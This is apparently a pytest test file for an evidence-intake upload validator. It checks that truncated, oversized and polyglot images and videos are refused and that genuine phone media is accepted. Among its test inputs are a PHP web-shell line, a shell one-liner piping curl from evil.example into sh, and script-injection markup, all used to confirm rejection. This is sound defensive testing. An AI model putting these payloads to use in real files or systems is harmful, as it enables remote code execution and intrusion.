"""Upload validation: real bad files are refused with a stable code, real good files pass."""

from __future__ import annotations

import hashlib
import io
import struct
import time

import pytest
from PIL import Image, ImageFile

from evidence.forensics.intake import (
    DEFAULT_MAX_BYTES,
    DEFAULT_MAX_PIXELS,
    DEFAULT_MAX_VIDEO_BYTES,
    MESSAGES,
    Inspected,
    RejectedFile,
    human_size,
    inspect_file,
    sniff,
)
from tests.fixtures import uploads


def rejected(data: bytes, **limits) -> RejectedFile:
    with pytest.raises(RejectedFile) as caught:
        inspect_file(io.BytesIO(data), **limits)
    return caught.value


# ---------------------------------------------------------------- refused


@pytest.mark.parametrize(
    ("builder", "code"),
    [
        (lambda: b"", "empty"),
        (uploads.truncated_jpeg, "truncated"),
        (uploads.truncated_png, "truncated"),
        (uploads.text_named_jpg, "unsupported_type"),
        (uploads.svg_with_script, "unsupported_type"),
        (uploads.pdf, "unsupported_type"),
        (uploads.html, "unsupported_type"),
        (uploads.zip_file, "unsupported_type"),
        (uploads.jpeg_with_html_after_eoi, "polyglot"),
        (uploads.png_with_html_after_iend, "polyglot"),
        (uploads.truncated_mp4, "truncated"),
        (uploads.mp4_without_moov, "truncated"),
    ],
    ids=lambda value: getattr(value, "__name__", value),
)
def test_bad_files_are_refused_with_their_code(builder, code):
    error = rejected(builder())
    assert error.code == code
    expected = MESSAGES[code] % error.params if error.params else MESSAGES[code]
    assert error.message == expected
    assert str(error) == error.message


def test_unsupported_message_names_what_is_accepted():
    message = rejected(uploads.text_named_jpg()).message
    for name in ("JPEG", "PNG", "WebP", "HEIC", "GIF", "MP4"):
        assert name in message


def test_png_pixel_bomb_is_refused_fast_without_decoding():
    data = uploads.png_declaring(30000, 30000)
    started = time.perf_counter()
    error = rejected(data)
    assert error.code == "too_many_pixels"
    assert time.perf_counter() - started < 0.5
    assert "40 megapixels" in error.message


def test_pixel_cap_is_ours_below_pillows_guard():
    """7000×7000 is under Pillow's own bomb limit but over the default 40 MP cap."""
    assert DEFAULT_MAX_PIXELS < 7000 * 7000 < Image.MAX_IMAGE_PIXELS
    assert rejected(uploads.png_declaring(7000, 7000)).code == "too_many_pixels"
    assert rejected(uploads.jpeg(size=(64, 48)), max_pixels=1000).code == "too_many_pixels"


def test_pillows_own_bomb_guard_still_applies_when_our_cap_is_raised():
    error = rejected(uploads.png_declaring(30000, 30000), max_pixels=10**10)
    assert error.code == "too_many_pixels"


def test_animation_with_too_many_frames_is_refused():
    """Frames together may hold five times the pixel cap; six full frames exceed that."""
    data = uploads.animated_gif(size=(40, 30), frames=6)
    assert rejected(data, max_pixels=40 * 30).code == "too_many_pixels"
    assert inspect_file(io.BytesIO(data), max_pixels=40 * 30 * 2).format == "GIF"


def test_over_size_files_are_refused_per_kind():
    error = rejected(uploads.jpeg(), max_bytes=100)
    assert error.code == "too_large"
    assert "100 bytes" in error.message
    assert rejected(uploads.mp4(), max_video_bytes=200).code == "too_large"
    # Videos have their own cap: an image cap smaller than the video does not apply.
    assert inspect_file(io.BytesIO(uploads.mp4()), max_bytes=100).kind == "video"


def test_too_large_message_states_the_limit_in_readable_units():
    assert human_size(DEFAULT_MAX_BYTES) == "25 MB"
    assert human_size(DEFAULT_MAX_VIDEO_BYTES) == "100 MB"
    error = rejected(uploads.jpeg(), max_bytes=1024)
    assert error.message == "This file is too large. The limit is 1 KB."
    assert error.params == {"limit": "1 KB"}


def test_truncation_is_caught_even_if_pillow_is_told_to_load_truncated_images(monkeypatch):
    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)
    assert rejected(uploads.truncated_jpeg()).code == "truncated"
    assert rejected(uploads.truncated_png()).code == "truncated"


def test_damaged_image_data_is_corrupt():
    data = bytearray(uploads.png(size=(128, 96)))
    idat = data.index(b"IDAT")
    data[idat + 8 : idat + 40] = b"\xff" * 32
    assert rejected(bytes(data)).code == "corrupt"


def test_gif_with_html_after_trailer_is_polyglot():
    data = uploads.animated_gif() + b"<html><script>alert(1)</script></html>"
    assert rejected(data).code == "polyglot"


def test_webp_with_data_after_riff_is_polyglot():
    assert rejected(uploads.webp() + b"PK\x03\x04 hidden zip").code == "polyglot"


def test_script_in_the_first_kilobyte_is_polyglot():
    """A JPEG comment holding HTML is a classic content-sniffing polyglot."""
    data = uploads.jpeg(comment=b"<html><script>alert(1)</script></html>")
    assert rejected(data).code == "polyglot"


def test_mp4_with_junk_after_the_movie_is_polyglot():
    assert rejected(uploads.mp4() + b"<html><body>hi</body></html>").code == "polyglot"


def test_mp4_without_a_video_track_is_refused_as_sound_only():
    assert rejected(uploads.mp4(handler=b"soun")).code == "audio_only"


# ---------------------------------------------------------------- accepted


def assert_inspected(data: bytes, kind: str, fmt: str, mime: str, size: tuple | None) -> Inspected:
    result = inspect_file(io.BytesIO(data))
    assert (result.kind, result.format, result.mime) == (kind, fmt, mime)
    if size is not None:
        assert (result.width, result.height) == size
    assert result.size == len(data)
    assert result.sha256 == hashlib.sha256(data).hexdigest()
    return result


def test_real_webp_is_accepted():
    assert_inspected(uploads.webp(size=(80, 60)), "image", "WEBP", "image/webp", (80, 60))


def test_real_jpeg_png_gif_are_accepted():
    assert_inspected(uploads.jpeg(size=(64, 48)), "image", "JPEG", "image/jpeg", (64, 48))
    assert_inspected(uploads.png(size=(33, 21)), "image", "PNG", "image/png", (33, 21))
    assert_inspected(uploads.png(size=(33, 21), mode="RGBA"), "image", "PNG", "image/png", None)
    assert_inspected(uploads.animated_gif(size=(40, 30)), "image", "GIF", "image/gif", (40, 30))


def test_real_heic_is_accepted():
    """pillow_heif encodes HEIC in this build, so this is a real HEVC-coded HEIF file."""
    data = uploads.heic(size=(64, 48))
    assert sniff(data[:64]) == "HEIC"
    assert_inspected(data, "image", "HEIC", "image/heic", (64, 48))


def test_phone_jpeg_with_trailing_images_is_accepted():
    assert_inspected(uploads.mpo(), "image", "JPEG", "image/jpeg", (64, 48))
    assert_inspected(uploads.jpeg_with_trailing_jpeg(), "image", "JPEG", "image/jpeg", (64, 48))


def test_jpeg_with_zero_padding_after_eoi_is_accepted():
    assert_inspected(uploads.jpeg() + b"\x00" * 512, "image", "JPEG", "image/jpeg", (64, 48))


def test_google_motion_photo_style_jpeg_with_trailing_mp4_is_accepted():
    assert_inspected(uploads.jpeg() + uploads.mp4(), "image", "JPEG", "image/jpeg", (64, 48))


def test_trailing_jpeg_that_is_not_a_jpeg_is_polyglot():
    assert rejected(uploads.jpeg() + b"\xff\xd8\xff<html>").code == "polyglot"


def test_photos_with_metadata_are_accepted():
    assert_inspected(uploads.gps_jpeg(size=(120, 80)), "image", "JPEG", "image/jpeg", (120, 80))
    assert_inspected(uploads.png_with_text(), "image", "PNG", "image/png", (64, 48))


def test_phone_like_mp4_and_mov_are_accepted():
    assert_inspected(uploads.mp4(320, 240), "video", "MP4", "video/mp4", (320, 240))
    assert_inspected(uploads.mp4(with_metadata=True), "video", "MP4", "video/mp4", (320, 240))
    mov = assert_inspected(uploads.quicktime_mov(), "video", "MOV", "video/quicktime", None)
    assert mov.duration == pytest.approx(2.0)


def test_classification_ignores_names_and_reads_content():
    """A PNG with a .jpg name is a PNG; the name is never consulted."""
    data = uploads.png()
    named = io.BytesIO(data)
    named.name = "holiday.jpg"
    assert inspect_file(named).format == "PNG"


def test_file_position_is_restored():
    data = uploads.jpeg()
    f = io.BytesIO(data)
    f.seek(17)
    inspect_file(f)
    assert f.tell() == 17
    f.seek(5)
    with pytest.raises(RejectedFile):
        inspect_file(f, max_bytes=10)
    assert f.tell() == 5


def test_large_video_is_hashed_in_chunks_from_a_real_file(tmp_path):
    data = uploads.mp4(640, 480)
    data = data + uploads.box(b"free", bytes(3 * 1024 * 1024))  # more than one read chunk
    path = tmp_path / "clip.mp4"
    path.write_bytes(data)
    with path.open("rb") as f:
        result = inspect_file(f)
        assert f.tell() == 0
    assert result.size == len(data)
    assert result.sha256 == hashlib.sha256(data).hexdigest()


def test_samsung_jpeg_with_sef_trailer_is_accepted():
    assert_inspected(uploads.samsung_sef_jpeg(), "image", "JPEG", "image/jpeg", (64, 48))


def test_markup_hidden_in_an_allowed_trailer_is_polyglot():
    data = uploads.samsung_sef_jpeg(value=b"<script>alert(1)</script>")
    assert rejected(data).code == "polyglot"


# ---------------------------------------------------------------- bytes after the image


def pe_header() -> bytes:
    """The start of a Windows executable: DOS header pointing at the PE header."""
    dos = b"MZ" + bytes(58) + struct.pack("<I", 64)
    return dos + b"PE\x00\x00" + bytes(64)


@pytest.mark.parametrize(
    "data",
    [
        uploads.card_slack_jpeg(),
        uploads.card_slack_jpeg(uploads.stale_jpeg_start()),
        uploads.card_slack_jpeg(uploads.random_bytes(20_000)),
        uploads.card_slack_jpeg(uploads.stale_web_page()),
        uploads.card_slack_jpeg(uploads.stale_web_page(), fill=b"\xff"),
        # A BlackBerry-style binary record: not card slack (the size is no sector multiple).
        uploads.jpeg() + b"\x00\x00\x90\x00" + uploads.random_bytes(36_860),
        # Stale data straight after the end marker, as a 1997 camera left it.
        uploads.jpeg() + uploads.random_bytes(2615, seed=3),
        uploads.jpeg() + uploads.stale_jpeg_start(),
    ],
    ids=[
        "zeros",
        "stale-jpeg-cut-short",
        "stale-random-sectors",
        "stale-web-page-in-slack",
        "stale-web-page-after-ff-fill",
        "binary-record",
        "stale-data-right-after-eoi",
        "jpeg-looking-data-right-after-eoi",
    ],
)
def test_card_slack_and_phone_records_after_the_jpeg_are_accepted(data):
    assert_inspected(data, "image", "JPEG", "image/jpeg", (64, 48))


def test_card_slack_shape_is_what_the_camera_writes():
    data = uploads.card_slack_jpeg(uploads.stale_web_page())
    assert len(data) % 4096 == 0
    assert data.index(b"<html>") % 4096 == 0


TAR_HEADER = b"payload.sh".ljust(257, b"\x00") + b"ustar\x0000" + bytes(242)


@pytest.mark.parametrize(
    "payload",
    [
        b"<html><body><script>alert(1)</script></body></html>",
        b"\n\n<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        b"<?php system($_GET['c']); ?>",
        uploads.zip_file(),
        b"Rar!\x1a\x07\x01\x00" + bytes(32),
        b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(32),
        b"\x1f\x8b\x08\x00" + bytes(16),
        b"BZh91AY&SY" + bytes(16),
        b"\xfd7zXZ\x00\x00\x04" + bytes(16),
        TAR_HEADER,
        pe_header(),
        b"\x7fELF\x02\x01\x01" + bytes(32),
        b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(32),
        b"#!/bin/sh\ncurl http://evil.example/x | sh\n",
        uploads.pdf(),
    ],
    ids=[
        "html",
        "svg",
        "php",
        "zip",
        "rar",
        "7z",
        "gzip",
        "bzip2",
        "xz",
        "tar",
        "pe",
        "elf",
        "mach-o",
        "shebang",
        "pdf",
    ],
)
def test_appended_documents_archives_and_executables_are_polyglots(payload):
    assert rejected(uploads.jpeg() + payload).code == "polyglot"
    assert rejected(uploads.png() + payload).code == "polyglot"
    # Padding before the payload does not hide it.
    assert rejected(uploads.jpeg() + bytes(100) + payload).code == "polyglot"


@pytest.mark.parametrize(
    "payload",
    [b"<?php system($_GET['c']); ?>", uploads.zip_file(), b"Rar!\x1a\x07\x01\x00", uploads.pdf()],
    ids=["php", "zip", "rar", "pdf"],
)
def test_payloads_found_at_any_offset_are_refused_in_card_slack_too(payload):
    """An interpreter or archiver finds these wherever they are, even among stale sectors."""
    data = uploads.card_slack_jpeg(uploads.random_bytes(5000) + payload)
    assert len(data) % 4096 == 0
    assert rejected(data).code == "polyglot"


def test_executable_at_the_start_of_card_slack_is_refused():
    assert rejected(uploads.card_slack_jpeg(pe_header())).code == "polyglot"


def test_markup_outside_card_slack_is_a_polyglot():
    page = uploads.stale_web_page()
    # Straight after the end marker, even in a file of whole clusters.
    data = uploads.jpeg() + page
    assert rejected(data + bytes(-len(data) % 4096)).code == "polyglot"
    # Inside a binary record that is not card slack (the file ends mid-sector).
    assert rejected(uploads.jpeg() + uploads.random_bytes(3000) + page).code == "polyglot"
    # A file of whole sectors whose last image sector is not zero-filled.
    data = uploads.jpeg() + uploads.random_bytes(700, seed=5) + page
    assert rejected(data + bytes(-len(data) % 4096)).code == "polyglot"


def test_zip_hidden_in_a_jpeg_comment_is_a_polyglot():
    """ZIP readers find an archive by its end record near the end of the file."""
    data = uploads.jpeg(size=(16, 12), comment=uploads.zip_file())
    assert rejected(data).code == "polyglot"


def test_samsung_png_with_sef_block_after_iend_is_accepted():
    data = uploads.samsung_sef_png()
    assert data.endswith(b"SEFT")
    assert_inspected(data, "image", "PNG", "image/png", (64, 48))


def test_markup_in_a_png_sef_block_is_a_polyglot():
    assert rejected(uploads.samsung_sef_png(b"<script>alert(1)</script>")).code == "polyglot"


def test_samsung_heic_with_sefd_box_is_accepted():
    assert_inspected(uploads.samsung_sefd_heic(), "image", "HEIC", "image/heic", (64, 48))


@pytest.mark.parametrize(
    "block",
    [
        uploads.sef_block(b"<html><script>alert(1)</script></html>"),
        uploads.sef_block(b"PK\x03\x04 hidden zip"),
        b"<html><script>alert(1)</script></html>",
    ],
    ids=["markup-in-sef", "zip-in-sef", "not-sef"],
)
def test_sefd_box_holding_anything_but_sef_data_is_a_polyglot(block):
    assert rejected(uploads.samsung_sefd_heic(block)).code == "polyglot"


def test_svg_icon_in_a_c2pa_manifest_in_the_first_kilobyte_is_accepted():
    data = uploads.c2pa_icon_png()
    assert data.find(b"<svg") < 1024
    assert_inspected(data, "image", "PNG", "image/png", (64, 48))


def test_markup_in_the_head_of_a_png_outside_a_text_chunk_is_a_polyglot():
    svg = b"<svg onload=alert(1)>"
    assert rejected(uploads.png_with_chunk_after_ihdr(b"prVt", svg)).code == "polyglot"
    # A text chunk whose CRC does not check is not a well-formed chunk.
    data = bytearray(uploads.png_with_chunk_after_ihdr(b"tEXt", b"Comment\x00" + svg))
    crc_at = 8 + 25 + 8 + len(b"Comment\x00" + svg)
    data[crc_at] ^= 0xFF
    assert rejected(bytes(data)).code == "polyglot"
    # Bare markup between the signature and the chunks.
    png = uploads.png()
    assert rejected(png[:8] + svg + png[8:]).code == "polyglot"
